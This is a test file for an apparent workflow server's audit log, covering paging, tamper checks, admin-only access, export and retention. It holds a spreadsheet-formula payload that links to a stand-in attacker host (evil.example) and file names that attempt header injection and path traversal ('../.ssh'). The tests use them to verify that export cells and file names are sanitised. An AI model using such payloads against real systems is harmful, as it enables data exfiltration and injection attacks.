import { DatabaseSync } from 'node:sqlite';
import { join } from 'node:path';
import { emptyFlow } from '@sluice/shared/flow/flow.ts';
import { describe, expect, it, onTestFinished } from 'vitest';
import { fakeTime } from '../runner/fakeTime.ts';
import { createAuditLog } from '../storage/audit.ts';
import { openDatabase } from '../storage/database.ts';
import { createRetentionStore } from '../storage/retention.ts';
import { csvCell } from './auditFile.ts';
import { plainFileName } from './http/fileAnswer.ts';
import { createRetention } from './retention.ts';
import { apiOf, startTestServer } from './testServer.ts';

const DAY_MS = 86_400_000;

async function setUp() {
  const test = await startTestServer();
  const cookie = test.cookieFor('admin');
  const api = apiOf(test.server, cookie);
  const file = async (query: string) => {
    const answer = await fetch(`${test.server.address}/api/audit/export?${query}`, { headers: { cookie } });
    return { headers: answer.headers, text: await answer.text() };
  };
  return { ...test, api, file };
}

describe('the audit log over the API', () => {
  it('is shown by page and filter, and checked', async () => {
    const { api, folder } = await setUp();
    for (const name of ['A', 'B', 'C']) await api.ok('createFlow', { body: { name } });
    const [newest, before] = await api.ok('audit', { query: { limit: 2, what: 'flow.create' } });
    const rest = await api.ok('audit', { query: { before: before?.id ?? 0, what: 'flow.create' } });
    expect([newest, before, ...rest].map((entry) => entry?.what)).toEqual([
      'flow.create',
      'flow.create',
      'flow.create',
    ]);
    expect(await api.ok('audit', { query: { until: 1 } })).toEqual([]);
    expect((await api.ok('checkAudit')).isWhole).toBe(true);
    const raw = new DatabaseSync(join(folder, 'sluice.db'));
    onTestFinished(() => raw.close());
    raw.exec('DROP TRIGGER audit_never_changes');
    raw.prepare("UPDATE audit SET who = 'eve' WHERE id = ?").run(before?.id ?? 0);
    expect(await api.ok('checkAudit')).toMatchObject({ isWhole: false, brokenAt: before?.id });
  });

  it('has an entry of whatever changes flows, connections, limits and keys', async () => {
    const { api } = await setUp();
    const mqtt = { name: 'B', type: 'mqtt', config: { url: 'mqtt://127.0.0.1:9' } };
    const flow = emptyFlow('a', 'A');
    await api.ok('createConnection', { body: mqtt });
    const { id, revision } = (await api.ok('connections')).find(({ builtIn }) => !builtIn) ?? {
      id: '',
      revision: 0,
    };
    const changes: readonly (readonly [
      Parameters<typeof api.ok>[0],
      Parameters<typeof api.ok>[1],
      string,
    ])[] = [
      ['createFlow', { body: { name: 'A', flow } }, 'flow.create'],
      [
        'saveFlow',
        { params: { id: 'a' }, body: { revision: 1, flow: { ...flow, name: 'A2' } } },
        'flow.save',
      ],
      ['deploy', { body: { flow: 'a', revision: 2 } }, 'flow.deploy'],
      ['stopFlow', { params: { id: 'a' } }, 'flow.stop'],
      ['startFlow', { params: { id: 'a' } }, 'flow.start'],
      ['deleteFlow', { params: { id: 'a' }, query: { revision: 2 } }, 'flow.delete'],
      ['saveConnection', { params: { id }, body: { ...mqtt, revision } }, 'connection.save'],
      ['deleteConnection', { params: { id }, query: { revision: revision + 1 } }, 'connection.delete'],
      ['saveLimits', { body: await api.ok('limits') }, 'limits.save'],
      ['rotateKeys', {}, 'secrets.rotate'],
    ];
    for (const [name, options, what] of changes) {
      await api.ok(name, options);
      expect((await api.ok('audit', { query: { limit: 1 } }))[0]?.what).toBe(what);
    }
    expect((await api.ok('checkAudit')).isWhole).toBe(true);
  });

  it('says what was before and what is after, and of secrets only which', async () => {
    const { api } = await setUp();
    const told = async () => (await api.ok('audit', { query: { limit: 1 } }))[0]?.details;
    const config = { url: 'mqtt://127.0.0.1:9' };
    const body = { name: 'B', type: 'mqtt', config, secrets: { password: 'old-secret' } };
    const { id, revision } = await api.ok('createConnection', { body });
    const changed = { ...body, config: { url: 'mqtt://127.0.0.1:10' }, secrets: { password: 'new-secret' } };
    await api.ok('saveConnection', { params: { id }, body: { ...changed, name: 'C', revision } });
    expect(await told()).toEqual({
      name: 'C',
      before: 'B',
      url: 'mqtt://127.0.0.1:9 → mqtt://127.0.0.1:10',
      password: 'changed',
    });
    const limits = await api.ok('limits');
    await api.ok('saveLimits', { body: { ...limits, flows: limits.flows + 1 } });
    expect(await told()).toEqual({ flows: `${limits.flows} → ${limits.flows + 1}` });
    await api.ok('saveRetention', { body: { ...(await api.ok('retention')), auditDays: 40 } });
    expect(await told()).toEqual({ auditDays: '365 → 40' });
  });

  it('is for admins', async () => {
    const { server, cookieFor } = await setUp();
    const deployer = apiOf(server, cookieFor('deployer'));
    for (const name of ['audit', 'checkAudit', 'exportAudit', 'retention'] as const)
      expect((await deployer.problem(name)).code).toBe('not-allowed');
  });

  it('is exported as a download, in which no cell is a formula', async () => {
    const { api, file } = await setUp();
    const evil = '=HYPERLINK("http://evil.example/?"&A1;"click")';
    await api.ok('createFlow', { body: { name: 'F', flow: emptyFlow(`f`, evil) } });
    const csv = await file('format=csv');
    expect(csv.headers.get('content-disposition')).toMatch(
      /^attachment; filename="audit-main-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [head, ...records] = csv.text.trimEnd().split('\r\n');
    expect(head).toBe('id,at,who,address,what,subject,details,hash');
    for (const record of records) expect(record).not.toMatch(/(^|,)"?[=+\-@\t]/);
    const lines = (await file('format=ndjson')).text.trimEnd().split('\n');
    expect(lines.map((line) => (JSON.parse(line) as { what: string }).what)).toContain('flow.create');
    expect(lines).toHaveLength(records.length);
  });

  it('a cell that a spreadsheet would take for a formula is a text', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvCell(`${start}1`).replace('"', '')).toMatch(/^'/);
    expect(csvCell('=1,"2"')).toBe('"\'=1,""2"""');
    expect(csvCell('plain')).toBe('plain');
  });

  it('no name of a file ends its header or leads out of a folder', () => {
    expect(plainFileName('a"\r\nX-Evil: 1/../../b.csv')).toBe('a-X-Evil-1-..-..-b.csv');
    expect(plainFileName('../.ssh')).toBe('ssh');
    expect(plainFileName('"\n')).toBe('file');
  });

  it('keys are made anew by the owner, and that is noted', async () => {
    const { api, server, cookieFor } = await setUp();
    const body = {
      name: 'B',
      type: 'mqtt',
      config: { url: 'mqtt://127.0.0.1:9' },
      secrets: { password: 'tiger' },
    };
    await api.ok('createConnection', { body });
    expect(await api.ok('rotateKeys')).toEqual({ workspaces: 1, secrets: 1 });
    expect((await api.ok('audit', { query: { what: 'secrets.rotate' } }))[0]?.details).toEqual({
      workspaces: 1,
      secrets: 1,
    });
    expect((await apiOf(server, cookieFor('deployer')).problem('rotateKeys')).code).toBe('not-allowed');
  });
});

describe('what is kept for some days', () => {
  it('is set by an admin, within bounds, and noted', async () => {
    const { api } = await setUp();
    expect(await api.ok('retention')).toEqual({ auditDays: 365, deadLetterDays: 90, traceDays: 7 });
    const body = { auditDays: 30, deadLetterDays: 2, traceDays: 1 };
    expect(await api.ok('saveRetention', { body })).toEqual(body);
    expect(await api.ok('retention')).toEqual(body);
    expect((await api.ok('audit', { query: { what: 'retention.save' } }))[0]?.details).toEqual({
      auditDays: '365 → 30',
      deadLetterDays: '90 → 2',
      traceDays: '7 → 1',
    });
    expect((await api.problem('saveRetention', { body: { ...body, auditDays: 1 } })).code).toBe(
      'invalid-input',
    );
  });

  it('goes once a day when it is older, and what is left of the audit log can be checked', async () => {
    const database = openDatabase(':memory:');
    onTestFinished(() => database.close());
    const audit = createAuditLog(database);
    const time = fakeTime(1_000 * DAY_MS);
    const asked: number[] = [];
    const note = (what: string) =>
      audit.append({
        workspace: 'main',
        at: time.now(),
        who: '',
        address: '',
        what,
        subject: '',
        details: {},
      });
    note('old');
    const retention = createRetention({
      workspace: 'main',
      store: createRetentionStore(database),
      audit,
      deadLetters: { dropAll: async (_actor, { until = 0 }) => asked.push(time.now() - until) },
      traces: { forget: (before) => void asked.push(time.now() - before) },
      time,
      note: (_actor, what) => note(what),
      log: () => undefined,
      atomically: (work) => database.transaction(work),
    });
    const whats = () => audit.list('main', 9).map(({ what }) => what);
    time.advance(364 * DAY_MS);
    note('new');
    expect(whats()).toEqual(['new', 'old']);
    time.advance(3 * DAY_MS);
    expect(whats()).toEqual(['audit.trim', 'new']);
    expect(audit.check('main', undefined, 9)).toEqual({ isWhole: true, entries: 2 });
    expect(new Set(asked)).toEqual(new Set([7 * DAY_MS, 90 * DAY_MS + 1]));
    retention.stop();
    retention.stop();
  });
});
